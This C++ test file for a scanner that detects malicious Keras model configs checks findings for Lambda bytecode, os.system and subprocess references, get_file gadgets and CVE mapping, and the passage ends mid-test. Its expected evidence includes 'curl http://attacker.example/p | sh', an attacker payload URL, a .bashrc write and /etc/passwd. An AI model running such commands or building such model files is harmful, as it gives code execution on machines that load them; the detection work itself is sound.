// Tests of the Keras config detector on real-shaped configs written by tests/data/gen_keras_config.py:
// the corpus models unchanged, and the same models modified the way published exploits are.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "formats/json.hpp"
#include "modelshield/error.hpp"
#include "scan/context.hpp"
#include "scan/keras/config_scan.hpp"
#include "test_paths.hpp"

namespace {

using ms::Finding;
using ms::Severity;
using Container = ms::KerasConfigSource::Container;

const ms::Limits kLimits;

ms::JsonValue parse_text(const std::string& text, const ms::Limits& limits = kLimits) {
  return ms::parse_json(ms::Bytes(reinterpret_cast<const std::uint8_t*>(text.data()), text.size()), limits);
}

std::vector<Finding> scan(const ms::JsonValue& config, ms::KerasConfigSource source = {},
                          const ms::Limits& limits = kLimits) {
  std::vector<Finding> findings;
  ms::ScanContext ctx(limits, "model.keras", findings);
  ms::ScanContext member = ctx.for_member("config.json");
  ms::scan_keras_config(member, config, source);
  return findings;
}

std::vector<Finding> scan_file(const std::string& relative, Container container = Container::keras_v3,
                               std::string claim = {}) {
  std::string text = ms::test::read_file(ms::test::testdata("keras_config/" + relative));
  ms::KerasConfigSource source;
  source.container = container;
  source.keras_version_claim = std::move(claim);
  return scan(parse_text(text), source);
}

std::string describe(const std::vector<Finding>& findings) {
  std::string out;
  for (const Finding& f : findings) {
    out += "\n  " + f.rule_id + " [" + std::string(ms::to_string(f.severity)) + "] " +
           f.location.json_pointer + ": " + f.reason;
    for (const std::string& e : f.evidence) out += "\n      " + e;
    if (!f.allowlist_symbol.empty()) out += "\n      allowlist: " + f.allowlist_symbol;
  }
  return out.empty() ? "\n  (no findings)" : out;
}

std::vector<const Finding*> with_rule(const std::vector<Finding>& findings, std::string_view rule) {
  std::vector<const Finding*> out;
  for (const Finding& f : findings)
    if (f.rule_id == rule) out.push_back(&f);
  return out;
}

const Finding* only(const std::vector<Finding>& findings, std::string_view rule) {
  auto matches = with_rule(findings, rule);
  EXPECT_EQ(matches.size(), 1u) << "expected exactly one " << rule << describe(findings);
  return matches.empty() ? nullptr : matches.front();
}

bool evidence_has(const Finding& f, std::string_view text) {
  return std::any_of(f.evidence.begin(), f.evidence.end(),
                     [&](const std::string& e) { return e.find(text) != std::string::npos; });
}

bool references(const Finding& f, std::string_view cve) {
  return std::find(f.references.begin(), f.references.end(), cve) != f.references.end();
}

Severity max_severity(const std::vector<Finding>& findings) {
  Severity max = Severity::info;
  for (const Finding& f : findings) max = std::max(max, f.severity);
  return max;
}

nlohmann::json index_json() {
  std::ifstream in(ms::test::testdata("keras_config/index.json"));
  return nlohmann::json::parse(in);
}

Container container_of(const std::string& name) {
  return name == "legacy_h5"     ? Container::legacy_h5
         : name == "saved_model" ? Container::saved_model
                                 : Container::keras_v3;
}

std::string payload_base64() {
  std::string code = ms::test::read_file(ms::test::testdata("keras_config/variants/k2_lambda_payload.json"));
  return nlohmann::json::parse(code)["config"]["layers"].back()["config"]["function"][0];
}

#define REQUIRE_GENERATED_CORPUS()                                                                     \
  do {                                                                                                 \
    if (!index_json().value("corpus", false)) GTEST_SKIP() << "../shared/corpus absent at generation"; \
  } while (0)

// --- Lambda bytecode
// ----------------------------------------------------------------------------------------

TEST(KerasConfigLambda, PayloadInSequentialInsideFunctionalIsCritical) {
  auto findings = scan_file("variants/k3_nested_lambda_payload.json", Container::keras_v3, "3.12.1");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical) << describe(findings);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/function")) << f->location.json_pointer;
  const std::string& pointer = f->location.json_pointer;
  std::size_t outer = pointer.find("/config/layers/");
  ASSERT_NE(outer, std::string::npos) << pointer;
  EXPECT_NE(pointer.find("/config/layers/", outer + 1), std::string::npos) << pointer;
  EXPECT_EQ(f->location.file, "model.keras");
  EXPECT_EQ(f->location.member, "config.json");
  EXPECT_TRUE(evidence_has(*f, "'system' (process execution)")) << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "__import__"));
  EXPECT_TRUE(evidence_has(*f, "curl http://attacker.example/p | sh"));
  EXPECT_TRUE(evidence_has(*f, "interpreter: code object layout of CPython 3.11"));
  EXPECT_TRUE(evidence_has(*f, "Keras 3 __lambda__ object"));
  EXPECT_TRUE(evidence_has(*f, "safe_mode=False"));
  EXPECT_FALSE(f->fix.empty());
  EXPECT_TRUE(references(*f, "CVE-2025-9905"));
}

TEST(KerasConfigLambda, ModuleKerasWithDottedClassNameIsALambda) {
  auto findings = scan_file("variants/k3_module_keras_layers_lambda.json");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(with_rule(findings, "KERAS-CUSTOM-OBJECT").empty()) << describe(findings);
}

TEST(KerasConfigLambda, InternalModulePathIsALambda) {
  auto findings = scan_file("variants/k3_internal_module_lambda.json");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(with_rule(findings, "KERAS-CUSTOM-OBJECT").empty()) << describe(findings);
}

TEST(KerasConfigLambda, ArithmeticLambdaIsHighAndShowsItReferencesNothing) {
  auto findings = scan_file("variants/k3_lambda_arithmetic.json");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::high) << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "names referenced: none"));
  EXPECT_FALSE(evidence_has(*f, "reaches:"));
  EXPECT_EQ(max_severity(findings), Severity::high);
}

TEST(KerasConfigLambda, HarmlessLambdaListsTheNamesItUses) {
  auto findings = scan_file("variants/k3_lambda_ops_mean.json");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::high);
  EXPECT_TRUE(evidence_has(*f, "names referenced: ops, mean")) << describe(findings);
}

TEST(KerasConfigLambda, LambdaInsideWrappersIsFound) {
  auto timed = scan_file("variants/k3_time_distributed_lambda.json");
  const Finding* f = only(timed, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_NE(f->location.json_pointer.find("/config/layer/config/function"), std::string::npos);

  auto bidirectional = scan_file("variants/k3_bidirectional_lambda.json");
  f = only(bidirectional, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_NE(f->location.json_pointer.find("/config/backward_layer/config/function"), std::string::npos);
}

TEST(KerasConfigLambda, DuplicateClassNameKeyKeepsTheLastValue) {
  auto findings = scan_file("variants/k3_duplicate_key_lambda.json");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(with_rule(findings, "KERAS-CUSTOM-OBJECT").empty()) << describe(findings);
}

TEST(KerasConfigLambda, Keras2ListFormPayloadIsCriticalOnLegacyH5) {
  auto findings = scan_file("variants/k2_lambda_payload.json", Container::legacy_h5, "2.2.4");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(
      evidence_has(*f, "Keras 2 Lambda 'function' with function_type 'lambda' as [code, defaults, closure]"));
  EXPECT_TRUE(evidence_has(*f, "encoding: base64"));
  EXPECT_TRUE(evidence_has(*f, "ignores safe_mode for .h5 files (CVE-2025-9905)"));
  EXPECT_TRUE(evidence_has(*f, "says Keras 2.2.4, inside the range affected by CVE-2024-3660"))
      << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "says Keras 2.2.4, outside the range affected by CVE-2025-9905"));
}

TEST(KerasConfigLambda, Keras22ListFormSequentialIsWalked) {
  auto findings = scan_file("variants/k2_list_form_lambda.json", Container::legacy_h5);
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_EQ(f->location.json_pointer, "/config/0/config/function");
}

TEST(KerasConfigLambda, Keras1RawUnicodeEscapeStringIsDecoded) {
  auto findings = scan_file("variants/k1_lambda_raw_string.json", Container::legacy_h5);
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical) << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "encoding: raw_unicode_escape"));
  EXPECT_TRUE(evidence_has(*f, "'system'"));
}

TEST(KerasConfigLambda, GlobalsFromADangerousModuleMakeHarmlessCodeCritical) {
  auto findings = scan_file("variants/k2_lambda_globals_os.json", Container::legacy_h5);
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "globals of module 'os'")) << describe(findings);
}

TEST(KerasConfigLambda, OutputShapeLambdaIsAlsoBytecode) {
  auto findings = scan_file("variants/k2_lambda_output_shape.json", Container::legacy_h5);
  auto lambdas = with_rule(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_EQ(lambdas.size(), 2u) << describe(findings);
  std::vector<std::string> pointers{lambdas[0]->location.json_pointer, lambdas[1]->location.json_pointer};
  std::sort(pointers.begin(), pointers.end());
  EXPECT_TRUE(pointers[0].ends_with("/config/function"));
  EXPECT_TRUE(pointers[1].ends_with("/config/output_shape"));
  for (const Finding* f : lambdas) EXPECT_EQ(f->severity, Severity::high);
}

// --- function references and gadgets
// -------------------------------------------------------------------------

TEST(KerasConfigReferences, OsSystemActivationIsCritical) {
  auto findings = scan_file("variants/k3_activation_os_system.json", Container::keras_v3, "3.8.0");
  const Finding* f = only(findings, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/activation")) << f->location.json_pointer;
  EXPECT_TRUE(references(*f, "CVE-2025-1550"));
  EXPECT_TRUE(evidence_has(*f, "function: system"));
  EXPECT_TRUE(evidence_has(*f, "module: os"));
  EXPECT_TRUE(evidence_has(*f, "inside the range affected by CVE-2025-1550"));
}

TEST(KerasConfigReferences, VersionClaimNeverLowersTheSeverity) {
  auto findings = scan_file("variants/k3_activation_os_system.json", Container::keras_v3, "3.12.0");
  const Finding* f = only(findings, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "outside the range affected by CVE-2025-1550"));
  EXPECT_TRUE(evidence_has(*f, "does not lower the severity"));
}

TEST(KerasConfigReferences, LossAndInitializerReferences) {
  auto popen = scan_file("variants/k3_loss_subprocess_popen.json");
  const Finding* f = only(popen, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_EQ(f->location.json_pointer, "/compile_config/loss");

  auto exec = scan_file("variants/k3_initializer_builtins_exec.json");
  f = only(exec, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/kernel_initializer"));
  EXPECT_NE(f->reason.find("builtins.exec"), std::string::npos);

  auto numpy = scan_file("variants/k3_activation_numpy_load.json");
  f = only(numpy, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
}

TEST(KerasConfigReferences, CustomFunctionSavedByNameIsAllowListable) {
  auto findings = scan_file("variants/k3_custom_function_loss.json");
  const Finding* f = only(findings, "KERAS-CUSTOM-OBJECT");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::medium);
  EXPECT_EQ(f->allowlist_symbol, "my_focal_loss");
  EXPECT_EQ(max_severity(findings), Severity::medium) << describe(findings);
}

TEST(KerasConfigReferences, Keras2FunctionTypeLambdas) {
  auto os = scan_file("variants/k2_lambda_function_name_os.json", Container::legacy_h5);
  const Finding* f = only(os, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "function_type 'function'"));

  auto main = scan_file("variants/k2_lambda_function_name_main.json", Container::legacy_h5);
  f = only(main, "KERAS-CUSTOM-OBJECT");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::medium);
  EXPECT_EQ(f->allowlist_symbol, "__main__.preprocess");
  EXPECT_EQ(max_severity(main), Severity::medium) << describe(main);
}

TEST(KerasConfigGadgets, GetFileThroughALambdaWithItsArguments) {
  auto findings = scan_file("variants/k3_gadget_get_file.json", Container::keras_v3, "3.10.0");
  const Finding* f = only(findings, "KERAS-GADGET");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/function"));
  EXPECT_TRUE(references(*f, "CVE-2025-8747"));
  EXPECT_TRUE(evidence_has(*f, "keras.utils.get_file"));
  EXPECT_TRUE(evidence_has(*f, "http://attacker.example/payload.bin")) << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "inside the range affected by CVE-2025-8747"));

  auto resources = with_rule(findings, "KERAS-EXTERNAL-RESOURCE");
  ASSERT_EQ(resources.size(), 3u) << describe(findings);
  for (const Finding* r : resources) EXPECT_EQ(r->severity, Severity::high);
  EXPECT_TRUE(std::any_of(resources.begin(), resources.end(), [](const Finding* r) {
    return r->location.json_pointer.ends_with("/arguments/origin") && evidence_has(*r, "remote URL");
  }));
  EXPECT_TRUE(std::any_of(resources.begin(), resources.end(), [](const Finding* r) {
    return r->location.json_pointer.ends_with("/arguments/cache_subdir") &&
           evidence_has(*r, "path leaving the model's directory");
  }));
}

TEST(KerasConfigGadgets, EnableUnsafeDeserializationThenLambda) {
  auto findings = scan_file("variants/k3_gadget_enable_unsafe_then_lambda.json");
  const Finding* gadget = only(findings, "KERAS-GADGET");
  ASSERT_NE(gadget, nullptr);
  EXPECT_EQ(gadget->severity, Severity::critical);
  EXPECT_TRUE(references(*gadget, "CVE-2025-9906"));
  const Finding* lambda = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_EQ(lambda->severity, Severity::critical);
}

TEST(KerasConfigGadgets, TFOpLambdaWritingAFile) {
  auto findings = scan_file("variants/k2_tf_op_lambda_write_file.json", Container::saved_model);
  const Finding* f = only(findings, "KERAS-GADGET");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "tf.io.write_file"));
  EXPECT_TRUE(evidence_has(*f, ".bashrc")) << describe(findings);
}

// --- layers with their own risks
// -----------------------------------------------------------------------------

TEST(KerasConfigLayers, TorchModuleWrapperBlob) {
  auto findings = scan_file("variants/k3_torch_module_wrapper.json", Container::keras_v3, "3.11.1");
  const Finding* f = only(findings, "KERAS-TORCH-MODULE-WRAPPER");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/module"));
  EXPECT_TRUE(evidence_has(*f, "zip header")) << describe(findings);
  EXPECT_TRUE(references(*f, "CVE-2025-49655"));
  EXPECT_TRUE(evidence_has(*f, "inside the range affected by CVE-2025-49655"));
  EXPECT_EQ(findings.size(), 1u) << describe(findings);
}

TEST(KerasConfigLayers, TFSMLayerPaths) {
  auto absolute = scan_file("variants/k3_tfsm_layer_absolute.json");
  const Finding* f = only(absolute, "KERAS-TFSM-LAYER");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(references(*f, "CVE-2026-1462"));
  EXPECT_TRUE(evidence_has(*f, "/tmp/attacker_saved_model"));
  EXPECT_EQ(absolute.size(), 1u) << describe(absolute);

  auto relative = scan_file("variants/k3_tfsm_layer_relative.json");
  f = only(relative, "KERAS-TFSM-LAYER");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::high);
}

TEST(KerasConfigLayers, HubLayerWithRemoteHandle) {
  auto findings = scan_file("variants/k3_hub_layer.json");
  const Finding* f = only(findings, "KERAS-HUB-LAYER");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "https://tfhub.dev/"));
  EXPECT_EQ(findings.size(), 1u) << describe(findings);
}

TEST(KerasConfigLayers, StringLookupVocabularyFile) {
  auto findings = scan_file("variants/k3_string_lookup_vocabulary_file.json");
  const Finding* f = only(findings, "KERAS-EXTERNAL-RESOURCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::high);
  EXPECT_TRUE(f->location.json_pointer.ends_with("/config/vocabulary"));
  EXPECT_TRUE(references(*f, "CVE-2025-12058"));
  EXPECT_TRUE(evidence_has(*f, "absolute path '/etc/passwd'"));
}

TEST(KerasConfigLayers, TokenizerFileParameters) {
  auto findings = scan_file("variants/k3_tokenizer_file_parameters.json");
  auto resources = with_rule(findings, "KERAS-EXTERNAL-RESOURCE");
  ASSERT_EQ(resources.size(), 2u) << describe(findings);
  EXPECT_TRUE(std::any_of(resources.begin(), resources.end(),
                          [](const Finding* r) { return evidence_has(*r, "relative path 'vocab.json'"); }));
  EXPECT_TRUE(std::any_of(resources.begin(), resources.end(), [](const Finding* r) {
    return evidence_has(*r, "remote URL 'gs://attacker-bucket");
  }));
  EXPECT_TRUE(with_rule(findings, "KERAS-CUSTOM-OBJECT").empty()) << describe(findings);
}

TEST(KerasConfigCustom, RegisteredAndUnknownClassesAreMediumAndAllowListable) {
  auto findings = scan_file("variants/k3_custom_objects.json");
  auto custom = with_rule(findings, "KERAS-CUSTOM-OBJECT");
  ASSERT_EQ(custom.size(), 2u) << describe(findings);
  std::vector<std::string> symbols{custom[0]->allowlist_symbol, custom[1]->allowlist_symbol};
  std::sort(symbols.begin(), symbols.end());
  EXPECT_EQ(symbols, (std::vector<std::string>{"Custom>Scaler", "my_package>MyDense"}));
  EXPECT_EQ(max_severity(findings), Severity::medium);
}

TEST(KerasConfigCustom, UnknownLossNameInTrainingConfig) {
  auto findings = scan_file("variants/k2_training_config_custom_loss.json", Container::legacy_h5);
  const Finding* f = only(findings, "KERAS-CUSTOM-OBJECT");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->allowlist_symbol, "my_custom_loss");
  EXPECT_EQ(f->location.json_pointer, "/loss");
}

// --- malformed
// -----------------------------------------------------------------------------------------------

TEST(KerasConfigMalformed, StructuralProblems) {
  for (const char* name : {"malformed/top_level_string.json", "malformed/class_name_number.json",
                           "malformed/module_list.json"}) {
    auto findings = scan_file(name);
    const Finding* f = only(findings, "KERAS-CONFIG-MALFORMED");
    ASSERT_NE(f, nullptr) << name;
    EXPECT_EQ(f->severity, Severity::medium) << name;
  }
}

TEST(KerasConfigMalformed, UndecodableBytecodeCannotBeVouchedFor) {
  for (const char* name : {"malformed/lambda_not_base64.json", "malformed/lambda_truncated_marshal.json"}) {
    auto findings = scan_file(name);
    const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
    ASSERT_NE(f, nullptr) << name;
    EXPECT_EQ(f->severity, Severity::high) << name;
    EXPECT_TRUE(evidence_has(*f, "could not be decoded")) << describe(findings);
  }
}

TEST(KerasConfigMalformed, TruncatedFilesAreRejectedByTheParserNotTheDetector) {
  std::string text =
      ms::test::read_file(ms::test::testdata("keras_config/variants/k3_nested_lambda_payload.json"));
  for (std::size_t cut : {text.size() / 7, text.size() / 3, text.size() - 2}) {
    EXPECT_THROW(parse_text(text.substr(0, cut)), ms::FormatError) << cut;
  }
}

TEST(KerasConfigMalformed, DepthBeyondTheLimitIsReportedOnce) {
  ms::Limits limits;
  limits.max_json_depth = 20;
  ms::JsonValue root;
  root.kind = ms::JsonValue::Kind::object;
  ms::JsonValue* node = &root;
  for (int i = 0; i < 60; ++i) {
    node->keys.push_back("layer");
    node->items.emplace_back();
    node = &node->items.back();
    node->kind = ms::JsonValue::Kind::object;
  }
  node->keys = {"class_name", "module", "config"};
  node->items.resize(3);
  node->items[0].kind = ms::JsonValue::Kind::string;
  node->items[0].text = "function";
  node->items[1].kind = ms::JsonValue::Kind::string;
  node->items[1].text = "os";
  auto findings = scan(root, {}, limits);
  const Finding* f = only(findings, "KERAS-CONFIG-MALFORMED");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->reason.find("deeper"), std::string::npos);
}

// --- inline configs
// ------------------------------------------------------------------------------------------

TEST(KerasConfigInline, BuiltInReferencesProduceNothing) {
  auto findings = scan(parse_text(R"({
    "module": "keras", "class_name": "Sequential", "registered_name": null,
    "config": {"name": "s", "layers": [
      {"module": "keras.layers", "class_name": "Dense", "registered_name": null,
       "config": {"name": "d", "units": 2,
                  "activation": {"module": "keras.activations", "class_name": "function", "config": "relu",
                                 "registered_name": "relu"},
                  "kernel_regularizer": {"module": "keras.regularizers", "class_name": "L2",
                                         "config": {"l2": 0.01}, "registered_name": null}}},
      {"class_name": "Activation", "config": {"name": "a", "activation": "softmax"}}]},
    "compile_config": {"optimizer": {"class_name": "Custom>Adam", "config": {"name": "Adam"}},
                       "loss": {"module": "builtins", "class_name": "function", "config": "mse",
                                "registered_name": "function"},
                       "metrics": [["acc", "AUC"]]}})"));
  EXPECT_TRUE(findings.empty()) << describe(findings);
}

TEST(KerasConfigInline, PointerPrefixAndEscaping) {
  ms::KerasConfigSource source;
  source.json_pointer_prefix = "/nodes/3/metadata";
  auto findings = scan(parse_text(R"({"weird/key~": {"module": "posix", "class_name": "function",
                                     "config": "system", "registered_name": null}})"),
                       source);
  const Finding* f = only(findings, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->location.json_pointer, "/nodes/3/metadata/weird~1key~0");
}

TEST(KerasConfigInline, DottedClassNamesThroughTheKerasApiAreGadgets) {
  auto findings = scan(parse_text(R"({"class_name": "utils.get_file", "module": "keras", "config": {}})"));
  const Finding* f = only(findings, "KERAS-GADGET");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(evidence_has(*f, "resolves to: keras.utils.get_file"));
}

TEST(KerasConfigInline, TypespecModuleIsResolvedLikeAClass) {
  auto findings = scan(parse_text(R"({"class_name": "__typespec__", "spec_name": "getoutput",
                                     "module": "subprocess", "config": [], "registered_name": null})"));
  const Finding* f = only(findings, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
}

TEST(KerasConfigInline, MarshalledCodeOutsideLambdaPositionsIsFound) {
  std::string payload = payload_base64();
  nlohmann::json config = {{"class_name", "Dense"}, {"config", {{"name", "d"}, {"note", payload}}}};
  auto findings = scan(parse_text(config.dump()));
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_EQ(f->location.json_pointer, "/config/note");
}

TEST(KerasConfigInline, SerializationLibLambdaValueAndBytecodeKeys) {
  std::string code = payload_base64();
  nlohmann::json value_form = {
      {"class_name", "Dense"},
      {"config",
       {{"activation", {{"class_name", "__lambda__"}, {"config", {{"value", {code, nullptr, nullptr}}}}}}}}};
  auto findings = scan(parse_text(value_form.dump()));
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "{value: [code, defaults, closure]}")) << describe(findings);
  EXPECT_TRUE(with_rule(findings, "KERAS-CUSTOM-OBJECT").empty()) << describe(findings);

  nlohmann::json key_form = {{"class_name", "Dense"}, {"config", {{"name", "d"}, {"__bytecode__", code}}}};
  findings = scan(parse_text(key_form.dump()));
  f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->location.json_pointer, "/config/__bytecode__");
}

TEST(KerasConfigInline, LambdaWithoutFunctionTypeStillRunsOnKeras3H5) {
  nlohmann::json layer = {{"class_name", "Lambda"},
                          {"config", {{"name", "l"}, {"function", {payload_base64(), nullptr, nullptr}}}}};
  ms::KerasConfigSource source;
  source.container = Container::legacy_h5;
  auto findings = scan(parse_text(layer.dump()), source);
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "without function_type 'lambda'"));
}

TEST(KerasConfigInline, RawLambdaFunctions) {
  auto dangerous = scan(parse_text(R"({"class_name": "Lambda", "config": {"name": "l",
      "function": "subprocess.getoutput", "function_type": "raw", "module": null}})"));
  const Finding* f = only(dangerous, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);

  auto broken = scan(parse_text(R"({"class_name": "Lambda", "config": {"name": "l",
      "function": {"a": 1}, "function_type": "raw"}})"));
  f = only(broken, "KERAS-CONFIG-MALFORMED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->location.json_pointer, "/config/function");
}

TEST(KerasConfigInline, RepeatedCustomSymbolIsReportedOnceWithACount) {
  nlohmann::json layers = nlohmann::json::array();
  for (int i = 0; i < 50; ++i)
    layers.push_back({{"class_name", "MyBlock"},
                      {"module", nullptr},
                      {"config", {{"name", std::string("b").append(std::to_string(i))}}}});
  auto findings =
      scan(parse_text(nlohmann::json{{"class_name", "Sequential"}, {"config", {{"layers", layers}}}}.dump()));
  const Finding* f = only(findings, "KERAS-CUSTOM-OBJECT");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->location.json_pointer, "/config/layers/0");
  EXPECT_TRUE(evidence_has(*f, "seen 50 times"));
}

TEST(KerasConfigInline, FindingsPerRuleAreCapped) {
  nlohmann::json layers = nlohmann::json::array();
  for (int i = 0; i < 1200; ++i)
    layers.push_back({{"class_name", std::string("Block").append(std::to_string(i))},
                      {"config", nlohmann::json::object()}});
  auto findings = scan(parse_text(nlohmann::json{{"class_name", "Sequential"}, {"config", layers}}.dump()));
  auto custom = with_rule(findings, "KERAS-CUSTOM-OBJECT");
  ASSERT_EQ(custom.size(), 1001u);
  EXPECT_EQ(custom.back()->severity, Severity::info);
  EXPECT_NE(custom.back()->reason.find("200 further"), std::string::npos) << custom.back()->reason;
}

TEST(KerasConfigInline, WideObjectsStayLinear) {
  // 150,000 keys, half of them "<name>_type": a quadratic sibling search would take minutes.
  std::string text = "{\"class_name\": \"Dense\", \"config\": {";
  for (int i = 0; i < 75000; ++i) {
    std::string n = std::to_string(i);
    text += (i ? ",\"k" : "\"k") + n + "\": 1, \"k" + n + "_type\": \"raw\"";
  }
  text += "}}";
  auto start = std::chrono::steady_clock::now();
  auto findings = scan(parse_text(text));
  auto seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_TRUE(findings.empty()) << describe(findings);
  EXPECT_LT(seconds, 20.0);
}

TEST(KerasConfigInline, PointersIntoHostileDocumentsAreBounded) {
  std::string key(20000, 'k');
  std::string text;
  for (int i = 0; i < 40; ++i) text += "{\"" + key + "\": ";
  text += R"({"class_name": "function", "module": "os", "config": "system"})";
  text += std::string(40, '}');
  auto findings = scan(parse_text(text));
  const Finding* f = only(findings, "KERAS-FUNCTION-REFERENCE");
  ASSERT_NE(f, nullptr);
  EXPECT_LE(f->location.json_pointer.size(), 1100u);
  EXPECT_NE(f->location.json_pointer.find("/..."), std::string::npos);
}

TEST(KerasConfigInline, OrdinaryNamesAreNotPaths) {
  auto findings = scan(parse_text(R"({"class_name": "Dense", "config": {"name": "dense/kernel:0",
      "note": "model/dense_1/BiasAdd", "data_format": "channels_last", "ratio": "1/2", "root": "/"}})"));
  EXPECT_TRUE(findings.empty()) << describe(findings);
}

// --- the real corpus
// -----------------------------------------------------------------------------------------

TEST(KerasConfigCorpus, BenignModelsYieldNothingButGenuineCustomClasses) {
  REQUIRE_GENERATED_CORPUS();
  int scanned = 0;
  nlohmann::json index = index_json();
  for (const auto& entry : index["files"]) {
    if (entry["group"] != "benign") continue;
    std::string file = entry["file"];
    auto findings = scan_file(file, container_of(entry["container"]), entry["claim"]);
    ++scanned;
    if (file.find("nested_container") != std::string::npos) {
      const Finding* f = only(findings, "KERAS-CUSTOM-OBJECT");
      ASSERT_NE(f, nullptr) << file;
      EXPECT_EQ(f->severity, Severity::medium);
      EXPECT_EQ(f->allowlist_symbol, "legacy_nested_container>NestedDenseModel");
      EXPECT_EQ(findings.size(), 1u) << file << describe(findings);
    } else {
      EXPECT_TRUE(findings.empty()) << file << describe(findings);
    }
  }
  EXPECT_GE(scanned, 15);
}

TEST(KerasConfigCorpus, HarmlessNormalisationLambdaIsHighNotCritical) {
  REQUIRE_GENERATED_CORPUS();
  auto findings =
      scan_file("corpus/benign-lambda/1560800__CarND-Behavioral-Cloning-P3__model.h5.model_config.json",
                Container::legacy_h5, "2.2.4");
  const Finding* f = only(findings, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::high) << describe(findings);
  EXPECT_TRUE(evidence_has(*f, "names referenced: none"));
